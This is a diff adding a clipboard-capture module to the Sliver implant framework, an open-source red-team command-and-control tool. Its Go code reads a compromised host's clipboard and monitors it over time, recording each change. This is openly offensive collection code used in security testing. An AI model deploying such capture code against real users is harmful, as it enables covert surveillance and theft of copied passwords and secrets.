@@ -0,0 +1,123 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"errors"
+	"time"
+	"unicode/utf8"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+)
+
+const (
+	// DefaultMaxSize - Bytes kept per clipboard entry unless the request sets a limit
+	DefaultMaxSize = 1024 * 1024
+
+	// maxTotalSize - Monitoring stops recording entries after this many bytes
+	maxTotalSize = 16 * 1024 * 1024
+
+	defaultInterval = time.Second
+	minInterval     = 100 * time.Millisecond
+
+	// FormatText - Clipboard contents that were read as text
+	FormatText = "text"
+)
+
+var (
+	// ErrUnsupported - The clipboard can't be read on this platform
+	ErrUnsupported = errors.New("reading the clipboard is not supported on this platform")
+)
+
+// Get - Read the current contents of the clipboard
+func Get(maxSize uint32) (*sliverpb.ClipboardEntry, error) {
+	data, format, err := read()
+	if err != nil {
+		return nil, err
+	}
+	return newEntry(data, format, maxSize), nil
+}
+
+// Monitor - Poll the clipboard for the duration and record each time its contents
+// change, the contents when monitoring starts are not recorded
+func Monitor(duration time.Duration, interval time.Duration, maxSize uint32) ([]*sliverpb.ClipboardEntry, error) {
+	if interval < minInterval {
+		interval = defaultInterval
+	}
+	data, _, err := read()
+	if err != nil {
+		return nil, err
+	}
+	last := sha256.Sum256(data)
+
+	entries := []*sliverpb.ClipboardEntry{}
+	total := 0
+	deadline := time.Now().Add(duration)
+	for time.Now().Add(interval).Before(deadline) && total < maxTotalSize {
+		time.Sleep(interval)
+		data, format, err := read()
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("[clipboard] read failed: %s", err)
+			// {{end}}
+			continue // Another process may have the clipboard open
+		}
+		digest := sha256.Sum256(data)
+		if digest == last {
+			continue
+		}
+		last = digest
+		if len(data) == 0 {
+			continue
+		}
+		entry := newEntry(data, format, maxSize)
+		entries = append(entries, entry)
+		total += len(entry.Data)
+	}
+	return entries, nil
+}
+
+func newEntry(data []byte, format string, maxSize uint32) *sliverpb.ClipboardEntry {
+	if maxSize == 0 {
+		maxSize = DefaultMaxSize
+	}
+	entry := &sliverpb.ClipboardEntry{
+		Timestamp: time.Now().Unix(),
+		Format:    format,
+		Size:      uint32(len(data)),
+		Binary:    format != FormatText || isBinary(data),
+	}
+	if maxSize < uint32(len(data)) {
+		data = data[:maxSize]
+	}
+	entry.Data = data
+	return entry
+}
+
+// isBinary - Text that isn't valid UTF-8 or contains NUL bytes is returned as-is
+// rather than being printed by the client
+func isBinary(data []byte) bool {
+	return !utf8.Valid(data) || bytes.IndexByte(data, 0) != -1
+}